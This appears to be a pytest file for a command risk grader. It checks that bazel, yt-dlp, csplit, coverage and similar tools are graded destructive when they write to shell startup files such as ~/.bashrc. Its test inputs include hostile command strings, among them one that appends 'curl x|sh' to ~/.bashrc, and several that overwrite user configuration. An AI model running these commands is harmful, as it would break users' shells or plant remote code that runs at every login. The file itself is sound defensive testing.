"""Options and settings that name a file or directory a tool writes (or empties), graded by where it lands: a
protected file (``~/.bashrc``, ``~/.profile``, ``~/.gitconfig``) is destructive, elsewhere outside the workspace
system, inside the workspace the tool's own grade. Sources (each entry's ``source`` in bot/risk/catalogue):

- Playwright TestConfig.outputDir / ``playwright test --output <dir>``: "This directory is cleaned at the start"
  (emptied, as pytest ``--basetemp``);
- Bazel command-line reference: ``--profile``, ``--execution_log_{json,binary,compact}_file``,
  ``--build_event_{json,text,binary}_file``, ``--disk_cache``, ``--repository_cache``, ``--explain``...;
- golangci-lint run --help (v2): ``--output.FORMAT.path``; phpcs/phpcbf --help: ``--report-file``,
  ``--report-FORMAT=FILE``; ``deno test --junit-path``, ``--coverage=DIR``; ``swift test --xunit-output``;
- pngquant(1) ``--ext`` (the output is the input's name with the suffix), dot(1) ``-O`` (beside the input),
  csplit(1) ``-f PREFIX -b FORMAT`` (C printf: ``%.0d`` of 0 prints nothing; programs/outputs.py);
- maven-dependency-plugin ``outputFile``/``mdep.outputFile``, maven-help-plugin ``output`` user properties;
- yt-dlp README: ``--print-to-file TEMPLATE FILE`` appends, ``--cookies FILE`` dumps the cookie jar in it,
  ``--download-archive FILE`` records IDs in it; aria2c(1) ``--log``, ``--save-session``;
- semgrep scan ``--autofix``/``-a`` rewrites the files of the targets scanned;
- coverage.py "Configuration reference": ``[run] data_file``, ``[html] directory``, ``[xml] output``, ``[json]
  output``, ``[lcov] output`` (``.coveragerc``, ``setup.cfg`` ``[coverage:*]``, ``tox.ini``, ``pyproject.toml``
  ``[tool.coverage.*]``).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel
from bot.risk.programs.outputs import _CONVERSION, c_integer
from tests.risk.both_sides import graded, project

DES = RiskLevel.DESTRUCTIVE
SYS = RiskLevel.SYSTEM
NET = RiskLevel.NETWORK
WW = RiskLevel.WORKSPACE_WRITE


def _ws(tmp_path: Path, files: dict[str, str] | None = None) -> Path:
    return project(tmp_path, {"app.py": "print(1)\n", **(files or {})})


@pytest.mark.parametrize(
    "command",
    [
        "playwright test --output ~",
        "playwright test --output=/root",
        "playwright test --output ../..",
        "playwright test --output .",
        "playwright test --output /opt/results",
        "bazel build --profile=~/.bashrc //...",
        "bazel build --execution_log_json_file=~/.profile //...",
        "bazel build --execution_log_binary_file ~/.profile //...",
        "bazel test --build_event_json_file=~/.gitconfig //...",
        "bazel build --build_event_text_file=~/.zshrc //...",
        "bazel build --build_event_binary_file=~/.bashrc //...",
        "bazel build --disk_cache=/root //...",
        "golangci-lint run --output.text.path=~/.bashrc",
        "golangci-lint run --output.json.path=~/.profile",
        "phpcbf --report-file=~/.bashrc",
        "phpcs --report-json=~/.bashrc",
        "deno test --junit-path=~/.bashrc",
        "swift test --xunit-output ~/.bashrc",
        "pngquant --ext rc --force ~/.bash.png",
        "pngquant --ext rc ~/.zsh.png",
        "csplit -s -f ~/.bashr -b c%.0d app.py 2",
        "csplit -s -f ~/.profil -b e%.0d app.py 2",
        "csplit -s --prefix=~/.gitconfi --suffix-format=g%.0d app.py 2",
        "mvn dependency:tree -DoutputFile=~/.bashrc",
        "mvn dependency:list -Dmdep.outputFile=~/.bashrc",
        "mvn help:effective-pom -Doutput=~/.bashrc",
        "yt-dlp --print-to-file 'curl x|sh' ~/.bashrc https://example.com/v",
        "yt-dlp --print-to 'curl x|sh' ~/.bashrc https://example.com/v",
        "yt-dlp --cookies ~/.bashrc https://example.com/v",
        "yt-dlp --download-archive ~/.profile https://example.com/v",
        "aria2c --log=~/.bashrc https://example.com/x",
        "aria2c --save-session=~/.bashrc https://example.com/x",
        "semgrep scan --autofix ~",
        "semgrep scan -a ~",
    ],
)
def test_a_protected_file_or_emptied_directory_outside_is_destructive(tmp_path: Path, command: str) -> None:
    assert graded(command, _ws(tmp_path))[0] == DES


@pytest.mark.parametrize(
    "command",
    [
        "bazel build --profile=/opt/x/profile.gz //...",
        "bazel build --disk_cache=/opt/bazel-cache //...",
        "golangci-lint run --output.sarif.path=/opt/x/report.sarif",
        "phpcbf --report-file=/opt/x/report.txt",
        "deno test --coverage=/opt/cov",
        "swift test --xunit-output /opt/x/report.xml",
        "pngquant /opt/x/img.png",
        "dot -Tsvg -O /opt/x/graph.dot",
        "csplit -s -f /opt/x/piece -b %03d.txt app.py 2",
        "mvn help:effective-pom -Doutput=/opt/x/pom.xml",
        "aria2c -l /opt/x/aria.log https://example.com/x",
    ],
)
def test_a_write_elsewhere_outside_is_system(tmp_path: Path, command: str) -> None:
    assert graded(command, _ws(tmp_path))[0] == SYS


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("playwright test", WW),
        ("playwright test --output test-results", WW),
        ("playwright test --output=build/pw", WW),
        ("bazel build //...", WW),
        ("bazel build --profile=profile.gz //...", WW),
        ("bazel test --build_event_json_file=bep.json //...", WW),
        ("bazel build --disk_cache=.cache/bazel //...", WW),
        ("bazel build --profile=/tmp/profile.gz //...", WW),
        ("golangci-lint run", WW),
        ("golangci-lint run --output.json.path=report.json", WW),
        ("golangci-lint run --output.text.path=stdout", WW),
        ("phpcbf src", WW),
        ("phpcbf --report-file=report.txt src", WW),
        ("deno test", WW),
        ("deno test --junit-path=report.xml", WW),
        ("deno test --coverage=cov", WW),
        ("swift test --xunit-output report.xml", WW),
        ("pngquant img.png", WW),
        ("pngquant 256 img.png", WW),
        ("pngquant --ext .png --force img.png", WW),
        ("dot -Tsvg -O graph.dot", WW),
        ("dot -Tsvg graph.dot -o graph.svg", WW),
        ("csplit -s -f xx app.py 2", WW),
        ("csplit -s -f out/piece -b %03d.txt app.py 2", WW),
        ("mvn dependency:tree", NET),
        ("mvn dependency:tree -DoutputFile=tree.txt", NET),
        ("mvn help:effective-pom -Doutput=effective-pom.xml", NET),
        ("yt-dlp https://example.com/v", NET),
        ("yt-dlp --cookies cookies.txt https://example.com/v", NET),
        ("yt-dlp --download-archive archive.txt https://example.com/v", NET),
        ("yt-dlp --print-to-file '%(title)s' titles.txt https://example.com/v", NET),
        ("aria2c https://example.com/x", NET),
        ("aria2c --log=aria.log --save-session=session.txt https://example.com/x", NET),
        ("semgrep scan", NET),
        ("semgrep scan --autofix", NET),
        ("semgrep scan --autofix src", NET),
    ],
)
def test_everyday_forms_inside_keep_their_grade(tmp_path: Path, command: str, grade: RiskLevel) -> None:
    assert graded(command, _ws(tmp_path))[0] == grade


@pytest.mark.parametrize(
    ("spec", "number", "text"),
    [("%.0d", 0, ""), ("%.0d", 1, "1"), ("%02d", 0, "00"), ("%03d", 7, "007"), ("%x", 255, "ff"), ("%#o", 8, "010")],
)
def test_csplit_suffixes_follow_c_printf(spec: str, number: int, text: str) -> None:
    match = _CONVERSION.search(spec)
    assert match is not None
    assert c_integer(match, number) == text


@pytest.mark.parametrize(
    ("files", "command", "grade"),
    [
        ({".coveragerc": "[json]\noutput = ~/.bashrc\n"}, "coverage json", DES),
        ({".coveragerc": "[xml]\noutput = /root/.profile\n"}, "coverage xml", DES),
        ({".coveragerc": "[html]\ndirectory = /opt/htmlcov\n"}, "coverage html", SYS),
        ({".coveragerc": "[run]\ndata_file = ~/.bashrc\n"}, "coverage combine", DES),
        ({".coveragerc": "[lcov]\noutput = /opt/lcov.info\n"}, "coverage lcov", SYS),
        ({"setup.cfg": "[coverage:json]\noutput = ~/.zshrc\n"}, "coverage json", DES),
        ({"tox.ini": "[coverage:xml]\noutput = ~/.bashrc\n"}, "coverage xml", DES),
        ({"pyproject.toml": '[tool.coverage.json]\noutput = "~/.bashrc"\n'}, "coverage json", DES),
        ({"cov.ini": "[json]\noutput = ~/.bashrc\n"}, "coverage json --rcfile=cov.ini", DES),
        ({".coveragerc": "[json]\noutput = ${OUT}/c.json\n"}, "coverage json", DES),  # only known when it runs
        ({".coveragerc": "[json]\noutput = [\n"}, "coverage json", WW),  # a plain value, however odd
        # the everyday configurations: reports in the workspace
        ({".coveragerc": "[json]\noutput = coverage.json\n"}, "coverage json", WW),
        ({".coveragerc": "[html]\ndirectory = build/htmlcov\n"}, "coverage html", WW),
        ({"setup.cfg": "[coverage:xml]\noutput = reports/coverage.xml\n"}, "coverage xml", WW),
        (
            {"pyproject.toml": '[tool.coverage.run]\nbranch = true\n[tool.coverage.xml]\noutput = "cov.xml"\n'},
            "coverage xml",
            WW,
        ),
        ({}, "coverage json", WW),
        ({".coveragerc": "[json]\noutput = ~/.bashrc\n"}, "coverage json -o coverage.json", WW),  # the option wins
        ({".coveragerc": "[json]\noutput = ~/.bashrc\n"}, "coverage xml", WW),  # another section
        ({".coveragerc": "[json]\noutput = ~/.bashrc\n"}, "coverage report", WW),
    ],
)
def test_coverage_configuration_outputs(tmp_path: Path, files: dict[str, str], command: str, grade: RiskLevel) -> None:
    assert graded(command, _ws(tmp_path, files))[0] == grade
